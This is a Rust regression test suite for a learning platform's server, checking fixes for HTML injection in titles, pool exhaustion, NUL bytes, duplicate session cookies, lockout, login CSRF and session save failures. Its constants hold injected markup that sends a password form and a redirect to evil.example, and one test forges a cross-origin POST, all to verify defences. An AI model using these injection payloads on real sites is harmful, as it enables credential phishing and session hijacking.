//! Regressions for the defects found by attacking the running server: markup in titles, a pool
//! that jammed under signed-in load, NUL bytes, two session cookies, owners locked out by
//! strangers' guesses, login CSRF through the hand-off, and save failures answered with nothing.

use crate::support::*;
use app::api::auth::{CompleteHandoff, CurrentViewer, SignIn, SwitchPortal};
use app::api::community::{ReplyToThread, StartThread};
use app::api::learning::{Enroll, MyLearning};
use app::api::studio::courses::{CreateCourse, SaveCourse};
use app::api::studio::outline::SaveLesson;
use app::data::repos::{courses, lessons};
use app::model::ViewerInfo;
use sea_orm::ConnectionTrait;
use server_fn::ServerFn;
use std::net::IpAddr;

const COURSE_TITLE: &str = "Intro</title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><form action=\"https://evil.example/steal\"><input name=\"password\">";
const LESSON_TITLE: &str = "Lesson</title><style>body{display:none}</style>";
const TENANT_NAME: &str = "Evil</title><form action=\"https://evil.example/org\">";

/// Markup that must never appear as markup anywhere in a page.
const INJECTED: &[&str] = &[
    "<meta http-equiv",
    "<form action=\"https://evil.example",
    "<style>body{display:none}",
    "<input name=\"password\"",
];

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'")
        .replace("&amp;", "&")
}

/// The text of the one `<title>` element, as the browser reads it.
fn title_of(page: &str) -> String {
    let start = page.find("<title>").expect("a <title>") + "<title>".len();
    let end = start + page[start..].find("</title>").expect("</title>");
    unescape(&page[start..end])
}

fn assert_inert(page: &Page, what: &str) {
    assert_eq!(page.status, 200, "{what}: {}", page.body);
    for markup in INJECTED {
        assert!(
            !page.body.contains(markup),
            "{what}: injected markup {markup:?} reached the page"
        );
    }
    let csp = page.headers["content-security-policy"].to_str().unwrap();
    for directive in [
        "form-action 'self'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "object-src 'none'",
    ] {
        assert!(
            csp.contains(directive),
            "{what}: CSP lacks {directive}: {csp}"
        );
    }
}

#[tokio::test]
async fn titles_and_names_carrying_markup_render_as_text_in_every_mode() {
    let app = TestApp::spawn(TestDb::new().await).await;
    let db = app.state.db.clone();
    let tenant = create_tenant(&db, TenantSpec::new("evil", TENANT_NAME, "#112233")).await;
    add_domain(&db, tenant, "learn.evil.example", true).await;
    let t = tx(&db, "evil").await;
    let (course, _, lesson_ids) =
        create_course(&t, "intro", COURSE_TITLE, "public", true, &[LESSON_TITLE]).await;
    create_person(&db, &t, "teacher@example.org", "instructor").await;
    t.commit().await.unwrap();

    for (host, base) in [
        ("localhost", "/evil"),
        ("evil.localhost", ""),
        ("learn.evil.example", ""),
    ] {
        let mut visitor = Browser::new(&app, host, base);
        let catalog = visitor.get("/courses").await;
        assert_inert(&catalog, &format!("catalog via {host}"));
        assert_eq!(title_of(&catalog.body), format!("{TENANT_NAME} · Courses"));

        let page = visitor.get("/courses/intro").await;
        assert_inert(&page, &format!("course page via {host}"));
        assert_eq!(
            title_of(&page.body),
            format!("{TENANT_NAME} · {COURSE_TITLE}")
        );
        assert!(
            page.body.contains("Intro&lt;/title&gt;"),
            "the course title is shown as text in the page"
        );

        let mut teacher = Browser::new(&app, host, base);
        teacher.sign_in("teacher@example.org", PASSWORD).await;
        let lesson = teacher
            .get(&format!("/courses/intro/lessons/{}", lesson_ids[0]))
            .await;
        assert_inert(&lesson, &format!("lesson page via {host}"));
        assert_eq!(
            title_of(&lesson.body),
            format!("{TENANT_NAME} · {LESSON_TITLE} · {COURSE_TITLE}")
        );
        let editor = teacher.get(&format!("/studio/courses/{course}")).await;
        assert_inert(&editor, &format!("course editor via {host}"));
        assert_eq!(
            title_of(&editor.body),
            format!("{TENANT_NAME} · Edit · {COURSE_TITLE}")
        );
    }
}

/// alpha with a public course, and a learner enrolled in it.
async fn learner_world(max_connections: u32) -> TestApp {
    let app = TestApp::spawn_with(TestDb::new().await, |c| {
        c.db_max_connections = max_connections;
    })
    .await;
    let db = app.state.db.clone();
    create_tenant(&db, TenantSpec::new("alpha", "Alpha Org", "#112233")).await;
    let t = tx(&db, "alpha").await;
    create_course(&t, "open", "Open Course", "public", true, &["One", "Two"]).await;
    create_person(&db, &t, "learner@example.org", "member").await;
    t.commit().await.unwrap();
    app
}

#[tokio::test]
async fn many_signed_in_page_loads_share_a_small_pool() {
    let app = learner_world(2).await;
    let mut learner = Browser::new(&app, "localhost", "/alpha");
    learner.sign_in("learner@example.org", PASSWORD).await;
    assert_eq!(learner.call(Enroll::PATH, "slug=open").await.status, 200);
    let cookie = format!("atrium_session={}", learner.cookie.clone().unwrap());
    let loads = (0..64).map(|_| {
        let request = app
            .request(reqwest::Method::GET, "localhost", "/alpha/learning")
            .header(reqwest::header::COOKIE, cookie.clone());
        async move {
            let response = request.send().await.unwrap();
            let status = response.status().as_u16();
            let body = response.text().await.unwrap();
            (status, body.contains("Open Course"))
        }
    });
    let results = futures_join_all(loads).await;
    let failed: Vec<_> = results.iter().filter(|(s, _)| *s != 200).collect();
    assert!(
        failed.is_empty(),
        "{} of 64 signed-in page loads failed: {failed:?}",
        failed.len()
    );
    assert!(
        results.iter().all(|(_, shows)| *shows),
        "each page shows the learner's course"
    );
}

#[tokio::test]
async fn one_connection_is_enough_for_a_signed_in_person() {
    let app = learner_world(1).await;
    let mut learner = Browser::new(&app, "localhost", "/alpha");
    learner.sign_in("learner@example.org", PASSWORD).await;
    let started = std::time::Instant::now();
    let call = learner.call(MyLearning::PATH, "").await;
    assert_eq!(call.status, 200, "{}", call.body);
    let page = learner.get("/learning").await;
    assert_eq!(page.status, 200, "{}", page.body);
    let viewer: Option<ViewerInfo> =
        serde_json::from_str(&learner.call(CurrentViewer::PATH, "").await.body).unwrap();
    assert!(viewer.is_some());
    assert!(
        started.elapsed() < std::time::Duration::from_secs(4),
        "no request may wait for a second connection"
    );
}

/// Runs futures concurrently (reqwest's futures are Send; tokio tasks keep them parallel).
async fn futures_join_all<F>(futures: impl Iterator<Item = F>) -> Vec<F::Output>
where
    F: std::future::Future + Send + 'static,
    F::Output: Send + 'static,
{
    let handles: Vec<_> = futures.map(tokio::spawn).collect();
    let mut out = Vec::new();
    for handle in handles {
        out.push(handle.await.unwrap());
    }
    out
}

#[tokio::test]
async fn nul_and_control_characters_are_refused_plainly() {
    let app = TestApp::spawn(TestDb::new().await).await;
    let db = app.state.db.clone();
    create_tenant(
        &db,
        TenantSpec::new("alpha", "Alpha Org", "#112233").everything(),
    )
    .await;
    let t = tx(&db, "alpha").await;
    let (course, _, lesson_ids) =
        create_course(&t, "open", "Open Course", "public", true, &["One"]).await;
    create_person(&db, &t, "learner@example.org", "member").await;
    create_person(&db, &t, "teacher@example.org", "instructor").await;
    t.commit().await.unwrap();

    let refused = |page: &Page, what: &str| {
        assert_eq!(page.status, 400, "{what}: {}", page.body);
        let error: app::error::AppError = serde_json::from_str(&page.body).unwrap();
        assert!(
            error.to_string().contains("control characters"),
            "{what}: a plain message: {error}"
        );
    };
    let mut anonymous = Browser::new(&app, "localhost", "/alpha");
    let sign_in = anonymous
        .call(
            SignIn::PATH,
            "email=nul%00%40attack.example&password=whatever",
        )
        .await;
    refused(&sign_in, "sign-in email");

    let mut learner = Browser::new(&app, "localhost", "/alpha");
    learner.sign_in("learner@example.org", PASSWORD).await;
    learner.call(Enroll::PATH, "slug=open").await;
    let thread = learner
        .call(StartThread::PATH, "slug=open&title=Hi%00there&body=Hello")
        .await;
    refused(&thread, "thread title");
    let started = learner
        .call(StartThread::PATH, "slug=open&title=Hello&body=First")
        .await;
    assert_eq!(started.status, 200, "{}", started.body);
    let target: String = serde_json::from_str(&started.body).unwrap();
    let thread_id = target.rsplit('/').next().unwrap().to_owned();
    let reply = learner
        .call(
            ReplyToThread::PATH,
            &format!("slug=open&thread_id={thread_id}&body=bad%00reply"),
        )
        .await;
    refused(&reply, "reply body");

    let mut teacher = Browser::new(&app, "localhost", "/alpha");
    teacher.sign_in("teacher@example.org", PASSWORD).await;
    let lesson = {
        let t = tx(&db, "alpha").await;
        let l = lessons::find(&t, lesson_ids[0]).await.unwrap().unwrap();
        t.commit().await.unwrap();
        l
    };
    let save = teacher
        .call(
            SaveLesson::PATH,
            &format!(
                "course_id={course}&lesson_id={}&version={}&title=One&body=evil%00body",
                lesson.id, lesson.version
            ),
        )
        .await;
    refused(&save, "lesson body");
    let create = teacher
        .call(
            CreateCourse::PATH,
            "title=Bad%00Title&slug=bad&summary=x&access=public",
        )
        .await;
    refused(&create, "course title");
    let json = teacher
        .app_json(
            &format!("/alpha{}", SaveCourse::PATH),
            r#"{"id":"x","version":1,"title":"a\u0000b"}"#,
        )
        .await;
    refused(&json, "a JSON body");
    // Nothing already saved was touched.
    let t = tx(&db, "alpha").await;
    let still = lessons::find(&t, lesson_ids[0]).await.unwrap().unwrap();
    assert_eq!(still.body_markdown, lesson.body_markdown);
    assert_eq!(
        courses::count(&t).await.unwrap(),
        1,
        "no course was created"
    );
    t.commit().await.unwrap();

    // Without JavaScript the form comes back to its page with the message's code.
    let plain = anonymous
        .submit(SignIn::PATH, "email=a%00b&password=x", "/signin")
        .await;
    assert_eq!(plain.status, 303, "{}", plain.body);
    assert_eq!(
        plain.headers["location"],
        "/alpha/signin?error=control_characters"
    );
    // Tabs, newlines and carriage returns are text.
    let fine = learner
        .call(
            ReplyToThread::PATH,
            &format!("slug=open&thread_id={thread_id}&body=line%0D%0Anext%09tab"),
        )
        .await;
    assert_eq!(fine.status, 200, "{}", fine.body);
    // Page addresses (nothing lives there) and queries too: never a 500.
    assert_eq!(anonymous.get("/courses/open%00").await.status, 404);
    assert_eq!(anonymous.get("/courses?q=a%00").await.status, 400);
}

#[tokio::test]
async fn two_session_cookies_sign_nobody_in() {
    let app = learner_world(5).await;
    let db = app.state.db.clone();
    let t = tx(&db, "alpha").await;
    create_person(&db, &t, "mallory@example.org", "member").await;
    t.commit().await.unwrap();
    let mut victim = Browser::new(&app, "localhost", "/alpha");
    victim.sign_in("learner@example.org", PASSWORD).await;
    let mut mallory = Browser::new(&app, "localhost", "/alpha");
    mallory.sign_in("mallory@example.org", PASSWORD).await;
    let (mine, tossed) = (victim.cookie.clone().unwrap(), mallory.cookie.unwrap());
    for cookies in [
        format!("atrium_session={mine}; atrium_session={tossed}"),
        format!("atrium_session={tossed}; atrium_session={mine}"),
    ] {
        let page = app
            .request(
                reqwest::Method::POST,
                "localhost",
                &format!("/alpha{}", CurrentViewer::PATH),
            )
            .header(reqwest::header::COOKIE, cookies)
            .header("Sec-Fetch-Site", "same-origin")
            .send()
            .await
            .unwrap();
        assert_eq!(page.status(), 200);
        let viewer: Option<ViewerInfo> = serde_json::from_str(&page.text().await.unwrap()).unwrap();
        assert_eq!(
            viewer, None,
            "an ambiguous pair must not choose who this is"
        );
    }
    // One cookie still works.
    let viewer: Option<ViewerInfo> =
        serde_json::from_str(&victim.call(CurrentViewer::PATH, "").await.body).unwrap();
    assert_eq!(
        viewer.map(|v| v.email).as_deref(),
        Some("learner@example.org")
    );
}

#[tokio::test]
async fn a_strangers_wrong_passwords_do_not_lock_the_owner_out() {
    let app = learner_world(5).await;
    let attacker_address: IpAddr = [127, 0, 0, 2].into();
    let mut attacker = Browser::new(&app, "localhost", "/alpha").connecting_from(attacker_address);
    let mut statuses = Vec::new();
    for _ in 0..8 {
        let page = attacker
            .call(
                SignIn::PATH,
                "email=learner%40example.org&password=guess%20guess%20guess",
            )
            .await;
        statuses.push(page.status);
    }
    assert_eq!(&statuses[..5], &[401; 5]);
    assert!(
        statuses[5..].iter().all(|s| *s == 429),
        "the guessing client is slowed down: {statuses:?}"
    );
    // The owner, from their own address, signs in at once.
    let mut owner = Browser::new(&app, "localhost", "/alpha");
    owner.sign_in("learner@example.org", PASSWORD).await;
}

#[tokio::test]
async fn a_handoff_link_signs_in_only_after_continue() {
    let app = learner_world(5).await;
    let db = app.state.db.clone();
    create_tenant(&db, TenantSpec::new("beta", "Beta Org", "#445566")).await;
    let b = tx(&db, "beta").await;
    create_person(&db, &b, "learner@example.org", "member").await;
    b.commit().await.unwrap();
    let mut alpha = Browser::new(&app, "localhost", "/alpha");
    alpha.sign_in("learner@example.org", PASSWORD).await;
    let switched = alpha.call(SwitchPortal::PATH, "slug=beta").await;
    let target: String = serde_json::from_str(&switched.body).unwrap();
    let token = target.rsplit("token=").next().unwrap().to_owned();

    // Following the link (as an attacker's page could make a victim do) signs nobody in: it asks.
    let mut visitor = Browser::new(&app, "localhost", "");
    let landed = visitor.get(&target).await;
    assert_eq!(landed.status, 200, "{}", landed.body);
    assert!(landed.body.contains("Continue as"), "{}", landed.body);
    assert!(visitor.cookie.is_none(), "no session from a GET");
    visitor.base = "/beta".into();
    let viewer: Option<ViewerInfo> =
        serde_json::from_str(&visitor.call(CurrentViewer::PATH, "").await.body).unwrap();
    assert_eq!(viewer, None);

    // Another site cannot press "Continue" for the visitor.
    let forged = app
        .request(
            reqwest::Method::POST,
            "localhost",
            &format!("/beta{}", CompleteHandoff::PATH),
        )
        .header(
            reqwest::header::CONTENT_TYPE,
            "application/x-www-form-urlencoded",
        )
        .header(reqwest::header::ORIGIN, "https://evil.example")
        .body(format!("token={token}"))
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status().as_u16(), 403);

    // The person does.
    let done = visitor
        .call(CompleteHandoff::PATH, &format!("token={token}"))
        .await;
    assert_eq!(done.status, 200, "{}", done.body);
    let viewer: Option<ViewerInfo> =
        serde_json::from_str(&visitor.call(CurrentViewer::PATH, "").await.body).unwrap();
    assert_eq!(
        viewer.map(|v| v.email).as_deref(),
        Some("learner@example.org")
    );
    // Single use.
    let mut again = Browser::new(&app, "localhost", "/beta");
    let reused = again
        .call(CompleteHandoff::PATH, &format!("token={token}"))
        .await;
    assert_eq!(reused.status, 401, "{}", reused.body);
}

#[tokio::test]
async fn a_session_that_cannot_be_saved_gets_a_plain_page() {
    let app = learner_world(5).await;
    let mut learner = Browser::new(&app, "localhost", "/alpha");
    learner.sign_in("learner@example.org", PASSWORD).await;
    // The session is due for renewal (saved a day ago), and the database stops taking writes.
    let owner = app.db.owner().await;
    owner
        .execute_unprepared("UPDATE sessions SET expires_at = now() + interval '6 days'")
        .await
        .unwrap();
    owner
        .execute_unprepared("REVOKE INSERT, UPDATE ON sessions FROM atrium_app")
        .await
        .unwrap();
    let page = learner.get("/courses").await;
    owner
        .execute_unprepared("GRANT INSERT, UPDATE ON sessions TO atrium_app")
        .await
        .unwrap();
    assert_eq!(page.status, 503, "{}", page.body);
    assert!(
        page.body.contains("<h1"),
        "an explained page, not an empty answer: {:?}",
        page.body
    );
}

#[tokio::test]
async fn a_database_that_refuses_connections_is_named_at_once() {
    let test_db = TestDb::new().await;
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let mut config = test_db.config();
    config.database_url = format!("postgres://postgres:x@127.0.0.1:{port}/atrium");
    let leptos = leptos::config::LeptosOptions::builder()
        .output_name("atrium")
        .site_root("target/site")
        .build();
    let started = std::time::Instant::now();
    let error = server::prepare(config, leptos)
        .await
        .err()
        .expect("start-up must fail")
        .to_string();
    assert!(
        started.elapsed() < std::time::Duration::from_secs(3),
        "took {:?}",
        started.elapsed()
    );
    assert!(
        error.contains(&format!("connection refused at 127.0.0.1:{port}")),
        "{error}"
    );
}
